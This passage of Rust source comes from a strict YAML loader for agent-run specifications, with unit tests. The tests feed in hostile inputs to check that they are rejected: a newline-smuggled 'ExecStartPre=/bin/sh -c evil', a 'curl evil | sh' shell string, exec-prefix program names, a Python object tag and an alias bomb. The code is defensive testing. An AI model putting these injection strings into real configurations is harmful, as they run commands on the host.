                "schedule.on_calendar" => "`on_calendar: daily`",
                "delivery.remote" => "`remote: origin` (a remote of the repository)",
                _ if key == "image" => "`image: NAME@sha256:<64 hex>`",
                _ if path.ends_with(".health.command") => {
                    "`command: [PROGRAM, ARG, ...]` (run in the service container; exit 0 means healthy)"
                }
                _ => "",
            };
            let hint = if example.is_empty() {
                format!("add `{key}`")
            } else {
                format!("add {example}")
            };
            self.out.push(
                f.at.diag(&path, format!("missing required key `{key}`"))
                    .hint(hint),
            );
        }
        node
    }

    fn string_field(
        &mut self,
        f: &Fields<'_>,
        key: &'static str,
        required: bool,
        kind: StrKind,
    ) -> Option<Located<String>> {
        let node = self.get(f, key, required)?;
        self.string(node, &child(&f.path, key), kind)
    }

    fn bool_field(&mut self, f: &Fields<'_>, key: &'static str) -> Option<Located<bool>> {
        let node = self.get(f, key, false)?;
        let path = child(&f.path, key);
        match (&node.value, node.style) {
            (Value::Bool, Style::Plain) if node.raw == "true" || node.raw == "false" => {
                Some(node.located(&path, node.raw == "true"))
            }
            (Value::Bool | Value::Str(_), Style::Plain) => {
                self.out.push(
                    node.diag(&path, format!("expected `true` or `false`, found `{}`", node.raw))
                        .hint("write true or false; YAML 1.1 spellings such as yes/no/on/off are not accepted"),
                );
                None
            }
            _ => {
                self.out.push(
                    node.diag(
                        &path,
                        format!("expected `true` or `false`, found {}", node.kind()),
                    )
                    .hint("write true or false, without quotes"),
                );
                None
            }
        }
    }

    /// A plain decimal number (integer or, with `fraction`, `1.5`) as written.
    fn number(&mut self, node: &Node, path: &str, fraction: bool) -> Option<Located<String>> {
        let what = if fraction { "a number" } else { "an integer" };
        let raw = node.raw.as_str();
        let is_number =
            matches!(node.value, Value::Int | Value::Float) && node.style == Style::Plain;
        if !is_number {
            let hint = if matches!(node.value, Value::Str(_)) && node.style == Style::Quoted {
                "remove the quotes"
            } else {
                "write a plain decimal number"
            };
            self.out.push(
                node.diag(path, format!("expected {what}, found {}", node.kind()))
                    .hint(hint),
            );
            return None;
        }
        let unsigned = raw.strip_prefix('-').unwrap_or(raw);
        let (int, frac) = match unsigned.split_once('.') {
            Some((i, f)) if fraction => (i, Some(f)),
            _ => (unsigned, None),
        };
        let digits = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit());
        let ok = digits(int) && (int == "0" || !int.starts_with('0')) && frac.is_none_or(digits);
        if !ok {
            self.out.push(
                node.diag(
                    path,
                    format!("`{raw}` is not written as a plain decimal number"),
                )
                .hint(if fraction {
                    "write it like `2` or `1.5` (no exponent, hex, octal or `_`)"
                } else {
                    "write it like `443` (no exponent, hex, octal, leading zeros or `_`)"
                }),
            );
            return None;
        }
        Some(node.located(path, raw.to_owned()))
    }

    /// A string scalar, strictly: see the module docs.
    fn string(&mut self, node: &Node, path: &str, kind: StrKind) -> Option<Located<String>> {
        let value = match (&node.value, node.style) {
            (Value::Str(s), Style::Quoted) => s,
            (Value::Str(s), Style::Plain) if plain_reading(s).is_none() => s,
            (Value::Seq(_) | Value::Map(_), _) => {
                self.out
                    .push(node.diag(path, format!("expected a string, found {}", node.kind())));
                return None;
            }
            (Value::Null, _) if node.raw.is_empty() => {
                self.out.push(
                    node.diag(path, "expected a string, found an empty value")
                        .hint("write a value, or remove the key"),
                );
                return None;
            }
            _ => {
                let raw = node.raw.as_str();
                let found = match plain_reading(raw) {
                    Some((kind, who, reading)) => {
                        format!("{kind} `{raw}` ({who} would read it as {reading})")
                    }
                    None => node.kind(),
                };
                let hint = match kind {
                    StrKind::Duration => {
                        "write a duration with a unit, e.g. `90s`, `30m` or `1h30m`".to_owned()
                    }
                    StrKind::Size => "write a size with a unit, e.g. `512M` or `2G`".to_owned(),
                    StrKind::Line | StrKind::Text => format!("quote it: \"{raw}\""),
                };
                self.out.push(
                    node.diag(path, format!("expected a string, found {found}"))
                        .hint(hint),
                );
                return None;
            }
        };
        let bad = value.chars().enumerate().find(|(_, c)| {
            (is_control_char(*c) || is_format_char(*c) || *c == '\n')
                && !(kind == StrKind::Text && *c == '\n')
        });
        if let Some((i, c)) = bad {
            self.out.push(
                node.diag(
                    path,
                    format!("the value contains {} at character {}", char_name(c), i + 1),
                )
                .hint(if c == '\n' {
                    "keep the value on one line (no block scalar, no `\\n` escape)"
                } else {
                    "remove the character (escapes such as `\\t` or `\\u202e` count too)"
                }),
            );
            return None;
        }
        Some(node.located(path, value.clone()))
    }

    /// A list of strings; `what` names the list for the fix when a single string is given.
    fn string_list(
        &mut self,
        f: &Fields<'_>,
        key: &'static str,
        required: bool,
    ) -> Option<Located<Vec<Located<String>>>> {
        let node = self.get(f, key, required)?;
        let path = child(&f.path, key);
        let Value::Seq(items) = &node.value else {
            let hint = if matches!(node.value, Value::Str(_)) && matches!(key, "command" | "quick")
            {
                "`command` is an argv list, not a shell string: write [python3, -m, pytest]"
            } else {
                "write a list: [a, b] or one `- item` per line"
            };
            self.out.push(
                node.diag(&path, format!("expected a list, found {}", node.kind()))
                    .hint(hint),
            );
            return None;
        };
        let values: Vec<Located<String>> = items
            .iter()
            .enumerate()
            .filter_map(|(i, item)| self.string(item, &format!("{path}[{i}]"), StrKind::Line))
            .collect();
        // Items with a problem are reported and left out. If none is left, the list is absent
        // rather than empty, so no "list is empty" error follows the real one.
        (values.len() == items.len() || !values.is_empty()).then(|| node.located(&path, values))
    }

    fn number_list(
        &mut self,
        f: &Fields<'_>,
        key: &'static str,
    ) -> Option<Located<Vec<Located<String>>>> {
        let node = self.get(f, key, false)?;
        let path = child(&f.path, key);
        let Value::Seq(items) = &node.value else {
            self.out.push(
                node.diag(&path, format!("expected a list, found {}", node.kind()))
                    .hint("write a list: [443, 80]"),
            );
            return None;
        };
        let values: Vec<Located<String>> = items
            .iter()
            .enumerate()
            .filter_map(|(i, item)| self.number(item, &format!("{path}[{i}]"), false))
            .collect();
        // Items with a problem are reported and left out. If none is left, the list is absent
        // rather than empty, so no "list is empty" error follows the real one.
        (values.len() == items.len() || !values.is_empty()).then(|| node.located(&path, values))
    }

    fn pos(node: &Node, path: &str) -> Pos {
        node.located(path, ())
    }

    fn image(&mut self, f: &Fields<'_>) -> RawImage {
        RawImage {
            image: self.string_field(f, "image", true, StrKind::Line),
            unpinned_local_image: self.bool_field(f, "unpinned_local_image"),
        }
    }

    // --- the spec ---

    fn spec(&mut self, root: &Node) -> Option<RawSpec> {
        let f = self.mapping(root, "", TOP_KEYS)?;
        let tenant = self.string_field(&f, "tenant", true, StrKind::Line);
        let repo = self.get(&f, "repo", true).and_then(|n| self.repo(n));
        let tier = self.string_field(&f, "tier", false, StrKind::Line);
        let worktree_isolation = self.bool_field(&f, "worktree_isolation");
        let task = self.get(&f, "task", true).and_then(|n| self.task(n));
        let agent = self.get(&f, "agent", true).and_then(|n| self.agent(n));
        let gate = self.get(&f, "gate", true).and_then(|n| self.gate(n));
        let egress = self.get(&f, "egress", false).and_then(|n| self.egress(n));
        let mounts = self
            .get(&f, "mounts", false)
            .map(|n| self.list_of(n, "mounts", Self::mount))
            .unwrap_or_default();
        let services = self
            .get(&f, "services", false)
            .map(|n| self.list_of(n, "services", Self::service))
            .unwrap_or_default();
        let schedule = self
            .get(&f, "schedule", false)
            .and_then(|n| self.schedule(n));
        let delivery = self
            .get(&f, "delivery", false)
            .and_then(|n| self.delivery(n));
        Some(RawSpec {
            at: Self::pos(root, ""),
            tenant,
            repo,
            tier,
            worktree_isolation,
            task,
            agent,
            gate,
            egress,
            mounts,
            services,
            schedule,
            delivery,
        })
    }

    fn list_of<T>(
        &mut self,
        node: &Node,
        path: &str,
        item: fn(&mut Self, &Node, &str) -> Option<T>,
    ) -> Vec<T> {
        let Value::Seq(items) = &node.value else {
            self.out.push(
                node.diag(path, format!("expected a list, found {}", node.kind()))
                    .hint("write one `- {...}` entry per line"),
            );
            return Vec::new();
        };
        items
            .iter()
            .enumerate()
            .filter_map(|(i, n)| item(self, n, &format!("{path}[{i}]")))
            .collect()
    }

    fn repo(&mut self, node: &Node) -> Option<RawRepo> {
        let f = self.mapping(node, "repo", REPO_KEYS)?;
        Some(RawRepo {
            at: Self::pos(node, "repo"),
            path: self.string_field(&f, "path", true, StrKind::Line),
            base: self.string_field(&f, "base", true, StrKind::Line),
        })
    }

    fn task(&mut self, node: &Node) -> Option<RawTask> {
        let f = self.mapping(node, "task", TASK_KEYS)?;
        Some(RawTask {
            at: Self::pos(node, "task"),
            text: self.string_field(&f, "text", false, StrKind::Text),
            file: self.string_field(&f, "file", false, StrKind::Line),
        })
    }

    fn agent(&mut self, node: &Node) -> Option<RawAgent> {
        let f = self.mapping(node, "agent", AGENT_KEYS)?;
        let image = self.image(&f);
        let command = self.string_list(&f, "command", true);
        let env = self.string_list(&f, "env", false);
        let timeout = self.string_field(&f, "timeout", false, StrKind::Duration);
        let resources = self.get(&f, "resources", false).and_then(|n| {
            let r = self.mapping(n, "agent.resources", RESOURCE_KEYS)?;
            let memory = self.string_field(&r, "memory", false, StrKind::Size);
            let cpus = self
                .get(&r, "cpus", false)
                .and_then(|c| self.number(c, "agent.resources.cpus", true));
            let pids = self
                .get(&r, "pids", false)
                .and_then(|p| self.number(p, "agent.resources.pids", false));
            Some(RawResources { memory, cpus, pids })
        });
        Some(RawAgent {
            at: Self::pos(node, "agent"),
            image,
            command,
            env,
            timeout,
            resources,
        })
    }

    fn gate(&mut self, node: &Node) -> Option<RawGate> {
        let f = self.mapping(node, "gate", GATE_KEYS)?;
        Some(RawGate {
            at: Self::pos(node, "gate"),
            image: self.image(&f),
            command: self.string_list(&f, "command", true),
            quick: self.string_list(&f, "quick", false),
            timeout: self.string_field(&f, "timeout", false, StrKind::Duration),
        })
    }

    fn egress(&mut self, node: &Node) -> Option<RawEgress> {
        let f = self.mapping(node, "egress", EGRESS_KEYS)?;
        Some(RawEgress {
            allow: self.string_list(&f, "allow", false),
            ports: self.number_list(&f, "ports"),
            report_only: self.bool_field(&f, "report_only"),
        })
    }

    fn mount(&mut self, node: &Node, path: &str) -> Option<RawMount> {
        let f = self.mapping(node, path, MOUNT_KEYS)?;
        Some(RawMount {
            at: Self::pos(node, path),
            source: self.string_field(&f, "source", true, StrKind::Line),
            target: self.string_field(&f, "target", true, StrKind::Line),
            read_only: self.bool_field(&f, "read_only"),
        })
    }

    fn service(&mut self, node: &Node, path: &str) -> Option<RawService> {
        let f = self.mapping(node, path, SERVICE_KEYS)?;
        Some(RawService {
            at: Self::pos(node, path),
            name: self.string_field(&f, "name", true, StrKind::Line),
            image: self.image(&f),
            command: self.string_list(&f, "command", false),
            env: self.string_list(&f, "env", false),
            port: self
                .get(&f, "port", false)
                .and_then(|p| self.number(p, &child(path, "port"), false)),
            data: self.string_field(&f, "data", false, StrKind::Line),
            health: self.get(&f, "health", false).and_then(|n| {
                let hp = child(path, "health");
                let h = self.mapping(n, &hp, HEALTH_KEYS)?;
                Some(RawHealth {
                    at: Self::pos(n, &hp),
                    command: self.string_list(&h, "command", true),
                    interval: self.string_field(&h, "interval", false, StrKind::Duration),
                    timeout: self.string_field(&h, "timeout", false, StrKind::Duration),
                    retries: self
                        .get(&h, "retries", false)
                        .and_then(|r| self.number(r, &child(&hp, "retries"), false)),
                    start_period: self.string_field(&h, "start_period", false, StrKind::Duration),
                })
            }),
        })
    }

    fn schedule(&mut self, node: &Node) -> Option<RawSchedule> {
        let f = self.mapping(node, "schedule", SCHEDULE_KEYS)?;
        Some(RawSchedule {
            at: Self::pos(node, "schedule"),
            on_calendar: self.string_field(&f, "on_calendar", true, StrKind::Line),
            persistent: self.bool_field(&f, "persistent"),
            randomized_delay: self.string_field(&f, "randomized_delay", false, StrKind::Duration),
        })
    }

    fn delivery(&mut self, node: &Node) -> Option<RawDelivery> {
        let f = self.mapping(node, "delivery", DELIVERY_KEYS)?;
        Some(RawDelivery {
            at: Self::pos(node, "delivery"),
            remote: self.string_field(&f, "remote", true, StrKind::Line),
            branch: self.string_field(&f, "branch", false, StrKind::Line),
            push: self.bool_field(&f, "push"),
            allow_paths: self.string_list(&f, "allow_paths", false),
            hold_paths: self.string_list(&f, "hold_paths", false),
            lock_wait: self.string_field(&f, "lock_wait", false, StrKind::Duration),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Diagnostic, Image, MAX_SPEC_BYTES, Spec, SpecContext, SpecError, parse};
    use super::*;
    use std::fmt::Write as _;

    const DIGEST: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    /// A valid spec; tests replace one line or append lines (from line 13 on).
    fn base() -> String {
        format!(
            "tenant: acme
repo:
  path: /home/u/proj
  base: main
task:
  text: do it
agent:
  image: ghcr.io/acme/agent@sha256:{DIGEST}
  command: [agent, --run]
gate:
  image: ghcr.io/acme/gate@sha256:{DIGEST}
  command: [make, test]
"
        )
    }

    fn ctx() -> SpecContext {
        SpecContext {
            file: "t.yaml".into(),
            home: "/home/u".into(),
            runtime_dir: "/run/user/1000".into(),
        }
    }

    /// `base()` with the first occurrence of `old` replaced by `new`.
    fn with(old: &str, new: &str) -> String {
        let b = base();
        assert!(b.contains(old), "base has no `{old}`");
        b.replacen(old, new, 1)
    }

    /// `base()` plus extra lines (the first extra line is line 13).
    fn plus(extra: &str) -> String {
        format!("{}{extra}", base())
    }

    fn ok(text: &str) -> Spec {
        match parse(text, &ctx()) {
            Ok(s) => s,
            Err(e) => panic!("expected a valid spec, got:\n{e}"),
        }
    }

    fn err(text: &str) -> SpecError {
        parse(text, &ctx()).expect_err("spec must be rejected")
    }

    /// The only diagnostic, as `(line, column, path, message)`.
    fn one(text: &str) -> (usize, usize, String, String) {
        let e = err(text);
        assert_eq!(e.diagnostics.len(), 1, "expected one diagnostic, got:\n{e}");
        let d = &e.diagnostics[0];
        (
            d.line.unwrap_or(0),
            d.column.unwrap_or(0),
            d.path.clone(),
            d.message.clone(),
        )
    }

    fn d(line: usize, column: usize, path: &str, message: &str) -> (usize, usize, String, String) {
        (line, column, path.to_owned(), message.to_owned())
    }

    #[test]
    fn base_spec_is_valid_and_defaults_apply() {
        let s = ok(&base());
        assert_eq!(s.tenant, "acme");
        assert_eq!(s.agent.timeout_s, 1800);
        assert_eq!(s.gate.timeout_s, 600);
        assert_eq!(s.egress.ports, vec![443]);
        assert!(s.egress.allow.is_empty());
        assert_eq!(s.tier, crate::tier::Tier::Container);
        assert!(s.schedule.is_none());
        assert!(matches!(s.agent.image, Image::Pinned { .. }));
    }

    #[test]
    fn gate_quick_is_an_optional_argv_validated_like_command() {
        let s = ok(include_str!("../../tests/fixtures/spec/gate-quick.yaml"));
        assert_eq!(s.gate.command, ["make", "test"]);
        assert_eq!(
            s.gate.quick_argv(),
            [
                "sh",
                "-c",
                "exec python3 -m pytest -q -x --junitxml=\"$CYCLIX_RESULTS\""
            ]
        );
        // Without the key the quick suite is the gate's command.
        let s = ok(&base());
        assert_eq!(
            (s.gate.quick.as_deref(), s.gate.quick_argv()),
            (None, &["make".to_string(), "test".to_string()][..])
        );
        assert_eq!(
            one(&plus("  quick: []\n")),
            d(13, 10, "gate.quick", "`quick` is empty")
        );
        let (line, _, path, msg) = one(&plus("  quick: \"make quick\"\n"));
        assert_eq!((line, path.as_str()), (13, "gate.quick"));
        assert!(msg.starts_with("expected a list"), "{msg}");
        let (_, _, path, msg) = one(&plus("  quick: [-x, tests]\n"));
        assert_eq!(path, "gate.quick[0]");
        assert!(msg.contains("starts with `-`"), "{msg}");
        let (_, _, path, msg) = one(&plus("  quick: [\"pytest -x\"]\n"));
        assert_eq!(path, "gate.quick[0]");
        assert!(msg.contains("whitespace"), "{msg}");
        let e = err(&plus("  quik: [make, quick]\n"));
        assert!(e.to_string().contains("did you mean `quick`?"), "{e}");
        let e = err(&plus("  quick: [make, 7]\n"));
        assert!(e.to_string().contains("gate.quick[1]"), "{e}");
    }

    #[test]
    fn fixtures_match_their_intent() {
        let good = include_str!("../../tests/fixtures/spec/good.yaml");
        let s = ok(good);
        assert_eq!(s.egress.ports, vec![80, 443]);
        assert_eq!(
            s.egress.allow.len(),
            2,
            "pypi.org listed twice must be deduped"
        );
        let db = &s.services[0];
        assert_eq!(
            (
                db.port,
                db.data.as_deref(),
                db.health.as_ref().map(crate::spec::Health::budget_s)
            ),
            (
                Some(5432),
                Some("/var/lib/postgresql/data"),
                Some(5 + 10 * (2 + 3))
            )
        );
        ok(include_str!("../../tests/fixtures/spec/minimal.yaml"));
        for bad in [
            include_str!("../../tests/fixtures/spec/bad-types.yaml"),
            include_str!("../../tests/fixtures/spec/bad-keys.yaml"),
            include_str!("../../tests/fixtures/spec/bad-semantics.yaml"),
            include_str!("../../tests/fixtures/spec/alias-bomb.yaml"),
            include_str!("../../tests/fixtures/spec/crlf.yaml"),
            include_str!("../../tests/fixtures/spec/tabs.yaml"),
            include_str!("../../tests/fixtures/spec/bidi.yaml"),
            include_str!("../../tests/fixtures/spec/tag.yaml"),
        ] {
            err(bad);
        }
    }

    #[test]
    fn display_format_is_file_line_col_path_message_then_fix() {
        let e = err(&with("tenant: acme", "tenant: no"));
        assert_eq!(
            e.to_string(),
            "t.yaml:1:9: tenant: expected a string, found boolean `no` (YAML 1.1 would read it as false)\n  fix: quote it: \"no\""
        );
        let doc = SpecError {
            file: "f".into(),
            diagnostics: vec![
                Diagnostic {
                    line: None,
                    column: None,
                    path: String::new(),
                    message: "m1".into(),
                    hint: None,
                },
                Diagnostic::at(2, 3, "a.b", "m2"),
            ],
        };
        assert_eq!(doc.to_string(), "f: m1\nf:2:3: a.b: m2");
    }

    // --- §4 "Newline in any value" ---

    #[test]
    fn control_characters_in_values_are_rejected() {
        let cases = [
            (
                with(
                    "tenant: acme",
                    r#"tenant: "t1\nExecStartPre=/bin/sh -c evil""#,
                ),
                d(
                    1,
                    9,
                    "tenant",
                    "the value contains U+000A (line feed) at character 3",
                ),
            ),
            (
                with("[agent, --run]", r#"[agent, "a\tb"]"#),
                d(
                    9,
                    19,
                    "agent.command[1]",
                    "the value contains U+0009 (tab) at character 2",
                ),
            ),
            (
                with("[agent, --run]", r#"[agent, "a\0b"]"#),
                d(
                    9,
                    19,
                    "agent.command[1]",
                    "the value contains U+0000 (null) at character 2",
                ),
            ),
            (
                with("[agent, --run]", r#"[agent, "a\rb"]"#),
                d(
                    9,
                    19,
                    "agent.command[1]",
                    "the value contains U+000D (carriage return) at character 2",
                ),
            ),
            (
                with("[agent, --run]", r#"[agent, "a\u0085b"]"#),
                d(
                    9,
                    19,
                    "agent.command[1]",
                    "the value contains U+0085 at character 2",
                ),
            ),
            (
                with("[agent, --run]", r#"[agent, "a\u202Eb"]"#),
                d(
                    9,
                    19,
                    "agent.command[1]",
                    "the value contains U+202E (right-to-left override) at character 2",
                ),
            ),
            (
                with("  base: main", "  base: |\n    main"),
                d(
                    5,
                    5,
                    "repo.base",
                    "the value contains U+000A (line feed) at character 5",
                ),
            ),
        ];
        for (text, want) in cases {
            let got = one(&text);
            assert_eq!(got.0, want.0, "{text}");
            assert_eq!((&got.2, &got.3), (&want.2, &want.3), "{text}");
        }
        // Multi-line task text is the one place a newline belongs.
        let s = ok(&with(
            "  text: do it",
            "  text: |\n    line one\n    line two",
        ));
        assert_eq!(
            s.task,
            super::super::Task::Text("line one\nline two\n".into())
        );
    }

    // --- §4 "Unit-name characters" ---

    #[test]
    fn tenant_names_outside_the_safe_alphabet_are_rejected() {
        let long = "a".repeat(300);
        let long_message =
            format!("invalid tenant: name `{long}` is 300 characters long; the limit is 31");
        let cases: [(&str, &str); 10] = [
            (
                "t/1",
                "invalid tenant: name `t/1` contains `/`; only a-z, 0-9 and `-` are allowed",
            ),
            (
                "../../x",
                "invalid tenant: name `../../x` must start with a lowercase letter a-z",
            ),
            (
                ".",
                "invalid tenant: name `.` must start with a lowercase letter a-z",
            ),
            (
                "-x",
                "invalid tenant: name `-x` must start with a lowercase letter a-z",
            ),
            (
                "x.service",
                "invalid tenant: name `x.service` contains `.`; only a-z, 0-9 and `-` are allowed",
            ),
            (
                "a@b@c",
                "invalid tenant: name `a@b@c` contains `@`; only a-z, 0-9 and `-` are allowed",
            ),
            (
                "a b",
                "invalid tenant: name `a b` contains ` `; only a-z, 0-9 and `-` are allowed",
            ),
            (
                "é",
                "invalid tenant: name `é` must start with a lowercase letter a-z",
            ),
            (
                "%h",
                "invalid tenant: name `%h` must start with a lowercase letter a-z",
            ),
            (&long, &long_message),
        ];
        for (name, message) in cases {
            let text = with("tenant: acme", &format!("tenant: \"{name}\""));
            assert_eq!(one(&text), d(1, 9, "tenant", message), "{name}");
        }
    }

    // --- §4 "% specifiers", "$ expansion", "Command separator", "Quoting and escapes":
    // argv words are data; the loader keeps them exactly, the renderer escapes them. ---

    #[test]
    fn argv_words_are_kept_verbatim_for_the_renderer_to_escape() {
        let text = with(
            "[agent, --run]",
            r#"[agent, "%h/.ssh", "50%", "$HOME", "${SSH_AUTH_SOCK}", ";", "a\"b", "'x'", "\\x41", "\\", "\\."]"#,
        );
        let s = ok(&text);
        assert_eq!(
            s.agent.command,
            vec![
                "agent",
                "%h/.ssh",
                "50%",
                "$HOME",
                "${SSH_AUTH_SOCK}",
                ";",
                "a\"b",
                "'x'",
                "\\x41",
                "\\",
                "\\."
            ]
        );
    }

    // --- §4 "Exec prefix smuggling" and "Shell injection" ---

    #[test]
    fn program_names_with_exec_prefixes_or_shell_strings_are_rejected() {
        for (first, message) in [
            (
                "\"+/bin/sh\"",
                "the program name `+/bin/sh` starts with `+`",
            ),
            (
                "\"!/bin/sh\"",
                "the program name `!/bin/sh` starts with `!`",
            ),
            ("-x", "the program name `-x` starts with `-`"),
            (
                "\"@/bin/sh\"",
                "the program name `@/bin/sh` starts with `@`",
            ),
            (
                "\"|/bin/sh\"",
                "the program name `|/bin/sh` starts with `|`",
            ),
            ("\";\"", "the program name `;` starts with `;`"),
            (
                "\"make && curl evil | sh\"",
                "the program name `make && curl evil | sh` contains whitespace",
            ),
            ("\"\"", "the program name (first word) is empty"),
        ] {
            let text = with("[make, test]", &format!("[{first}, x]"));
            assert_eq!(one(&text), d(12, 13, "gate.command[0]", message), "{first}");
        }
        let text = with("[make, test]", "\"make && curl evil | sh\"");
        assert_eq!(
            one(&text),
            d(
                12,
                12,
                "gate.command",
                "expected a list, found string \"make && curl evil | sh\""
            )
        );
        assert_eq!(
            one(&with("[make, test]", "[]")),
            d(12, 12, "gate.command", "`command` is empty")
        );
    }

    // --- §4 "Huge or hostile file" ---

    #[test]
    fn oversized_text_is_rejected_before_parsing() {
        let big = format!(
            "{}# {}\n",
            base(),
            "x".repeat(usize::try_from(MAX_SPEC_BYTES).unwrap_or(0))
        );
        let e = err(&big);
        assert_eq!(e.diagnostics.len(), 1);
        assert_eq!(e.diagnostics[0].line, None);
        assert!(
            e.diagnostics[0].message.starts_with("file is ")
                && e.diagnostics[0]
                    .message
                    .ends_with("larger than the limit of 262144 bytes"),
            "{e}"
        );
    }

    #[test]
    fn billion_laughs_fails_fast_with_a_clear_error() {
        let start = std::time::Instant::now();
        let text = include_str!("../../tests/fixtures/spec/alias-bomb.yaml");
        assert_eq!(
            one(text),
            d(
                5,
                8,
                "e[0]",
                "aliases expand to too many nodes (billion-laughs style input; limit 10000 replayed nodes)"
            )
        );
        assert!(
            start.elapsed() < std::time::Duration::from_secs(2),
            "took {:?}",
            start.elapsed()
        );
    }

    #[test]
    fn too_many_aliases_anchors_and_deep_nesting_are_rejected() {
        let aliases = format!("{}x: &a v\ny: [{}]\n", base(), vec!["*a"; 101].join(", "));
        assert_eq!(one(&aliases).3, "more than 100 aliases");
        let anchors = (0..101).fold(String::new(), |mut acc, i| {
            let _ = writeln!(acc, "k{i}: &a{i} v");
            acc
        });
        assert_eq!(one(&anchors).3, "more than 100 anchors");
        let deep = format!("tenant: {}{}\n", "[".repeat(10_000), "]".repeat(10_000));
        let (line, _, path, message) = one(&deep);
        assert_eq!(
            (line, path.as_str(), message.as_str()),
            (1, "tenant", "nesting deeper than 32 levels")
        );
        let two_docs = format!("{}---\ntenant: b\n", base());
        assert_eq!(
            one(&two_docs),
            d(13, 1, "", "more than one YAML document (`---`)")
        );
    }

    #[test]
    fn yaml_tags_are_rejected() {
        assert_eq!(
            one(&with(
                "tenant: acme",
                "tenant: !!python/object:os.system acme"
            )),
            d(
                1,
                9,
                "tenant",
                "YAML tags are not allowed (`!!python/object:os.system`)"
            )
        );
        assert_eq!(
            one(&with("tenant: acme", "tenant: !!str acme")),
            d(1, 9, "tenant", "YAML tags are not allowed (`!!str`)")
        );
        assert_eq!(
            one(&with("  base: main", "  base: !custom main")),
            d(4, 9, "repo.base", "YAML tags are not allowed (`!custom`)")
        );
    }

    #[test]
    fn merge_keys_are_rejected() {
        let text = plus("defaults: &d {timeout: 5m}\nextra:\n  <<: *d\n");
        assert_eq!(
            one(&text),
            d(15, 3, "extra.<<", "merge keys (`<<`) are not allowed")
        );
    }

    // --- §4 "Duplicate keys" ---

    #[test]
    fn duplicate_keys_name_both_lines() {
        assert_eq!(
            one(&plus("tenant: other\n")),
            d(
                13,
                1,
                "tenant",
                "duplicate key `tenant` (first defined at line 1)"
            )
        );
        assert_eq!(
            one(&plus("\"tenant\": other\n")),
            d(
                13,
                1,
                "tenant",
                "duplicate key `tenant` (first defined at line 1)"
            )
        );
        assert_eq!(
            one(&with("  base: main", "  base: main\n  base: dev")),
            d(
                5,
                3,
                "repo.base",
                "duplicate key `base` (first defined at line 4)"
            )
        );
    }

    // --- §4 "Unknown keys / typos" ---

    #[test]
    fn delivery_is_optional_and_its_keys_are_checked_like_the_others() {
        assert!(
            ok(&base()).delivery.is_none(),
            "absent: the local branch only"
        );
        let s = ok(&plus("delivery:\n  remote: origin\n"));
        let dl = s.delivery.expect("delivery");
        assert_eq!(
            (
                dl.remote.as_str(),
                dl.branch.as_deref(),
                dl.push,
                dl.lock_wait_s
            ),
            ("origin", None, true, 600)
        );
        let s = ok(&plus(
            "delivery:\n  remote: up-stream.1\n  branch: cyclix/acme/nightly\n  push: false\n  allow_paths: [.github/workflows/]\n  hold_paths: [deploy/, \"**/secrets.yaml\", Makefile]\n  lock_wait: 0s\n",
        ));
        let dl = s.delivery.expect("delivery");
        assert_eq!(dl.branch.as_deref(), Some("cyclix/acme/nightly"));
        assert_eq!(
            dl.hold_paths,
            vec!["deploy/", "**/secrets.yaml", "Makefile"]
        );
        assert_eq!((dl.push, dl.lock_wait_s), (false, 0));
    }

    #[test]
    fn delivery_keys_are_reported_with_position_message_and_fix() {
        let cases = [
            (
                "delivery:\n  remote: origin\n  brnach: x\n",
                d(15, 3, "delivery.brnach", "unknown key `brnach`"),
                Some("did you mean `branch`?"),
            ),
            (
                "delivery:\n  branch: x\n",
                d(14, 3, "delivery.remote", "missing required key `remote`"),
                Some("add `remote: origin` (a remote of the repository)"),
            ),
            (
                "delivery:\n  remote: \"git@github.com:a/b.git\"\n",
                d(
                    14,
                    11,
                    "delivery.remote",
                    "invalid remote: `git@github.com:a/b.git` contains `@`: give the remote's name, not a URL or path",
                ),
                None,
            ),
            (
                "delivery:\n  remote: origin\n  branch: \"main..x\"\n",
                d(
                    15,
                    11,
                    "delivery.branch",
                    "invalid branch: `main..x` contains `..`",
                ),
                None,
            ),
            (
                "delivery:\n  remote: origin\n  branch: refs/heads/x\n",
                d(
                    15,
                    11,
                    "delivery.branch",
                    "invalid branch: `refs/heads/x` is not a plain branch name",
                ),
                None,
            ),
            (
                "delivery:\n  remote: origin\n  allow_paths: [../etc/]\n",
                d(
                    15,
                    17,
                    "delivery.allow_paths[0]",
                    "`../etc/` has an empty, `.` or `..` component",
                ),
                None,
            ),
            (
                "delivery:\n  remote: origin\n  hold_paths: [\"*.yml\"]\n",
                d(
                    15,
                    16,
                    "delivery.hold_paths[0]",
                    "`*.yml` contains `*`: only a leading `**/` is a pattern",
                ),
                None,
            ),
            (
                "delivery:\n  remote: origin\n  lock_wait: 7h\n",
                d(
                    15,
                    14,
                    "delivery.lock_wait",
                    "duration `7h` is out of range",
                ),
                Some("use a duration from 0s to 6h"),
            ),
            (
                "delivery:\n  remote: origin\n  push: yes\n",
                d(
                    15,
                    9,
                    "delivery.push",
                    "expected `true` or `false`, found `yes`",
                ),
                None,
            ),
        ];
        for (extra, want, hint) in cases {
            let text = plus(extra);
            assert_eq!(one(&text), want, "{extra}");
            if let Some(h) = hint {
                assert_eq!(
                    err(&text).diagnostics[0].hint.as_deref(),
                    Some(h),
                    "{extra}"
                );
            }
        }
        let direct = with("gate:", "tier: direct\ngate:") + "delivery:\n  remote: origin\n";
        let (line, _, path, msg) = one(&direct);
        assert_eq!((line, path.as_str()), (15, "delivery"), "{msg}");
        assert!(msg.contains("tier `direct`"), "{msg}");
    }

    #[test]
    fn unknown_keys_name_the_path_and_the_nearest_key() {
        let cases = [
            (
                plus("egres:\n  allow: []\n"),
                d(13, 1, "egres", "unknown key `egres`"),
                "did you mean `egress`?",
            ),
            (
                plus("netwrok: open\n"),
                d(13, 1, "netwrok", "unknown key `netwrok`"),
                "valid keys here: tenant, repo, tier, worktree_isolation, task, agent, gate, egress, mounts, services, schedule, delivery",
            ),
            (
                with(
                    "  command: [agent, --run]",
                    "  command: [agent, --run]\n  cap_add: [ALL]",
                ),
                d(10, 3, "agent.cap_add", "unknown key `cap_add`"),
                "valid keys here: image, unpinned_local_image, command, env, timeout, resources",
            ),
            (
                with("  command: [agent, --run]", "  comand: [agent]"),
                d(9, 3, "agent.comand", "unknown key `comand`"),
                "did you mean `command`?",
            ),
            (
                plus("schedule:\n  oncalendar: daily\n"),
                d(14, 3, "schedule.oncalendar", "unknown key `oncalendar`"),
                "did you mean `on_calendar`?",
            ),
        ];
        for (text, want, hint) in cases {
            let e = err(&text);
            let first = e
                .diagnostics
                .iter()
